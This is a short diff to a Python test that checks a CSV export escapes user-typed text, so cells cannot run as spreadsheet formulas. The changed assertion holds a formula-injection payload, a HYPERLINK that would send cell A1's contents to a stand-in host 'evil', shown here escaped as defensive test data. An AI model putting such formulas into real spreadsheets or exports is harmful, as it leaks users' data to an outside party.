@@ -127,6 +127,6 @@ def test_export_keeps_typed_text_from_becoming_a_spreadsheet_formula(client, aud
     body = b"".join(client.get(EXPORT).streaming_content).decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(body)))
     cells = [cell for row in rows[1:] for cell in row]
-    assert "'=HYPERLINK(\"http://evil/?x=\"&A1,\"x\")" in cells
+    assert '\'=HYPERLINK("http://evil/?x="&A1,"x")' in cells
     assert "'@SUM(1+1)" in cells and "'-2+3" in cells
     assert not any(cell[:1] in "=+-@" for cell in cells if cell)
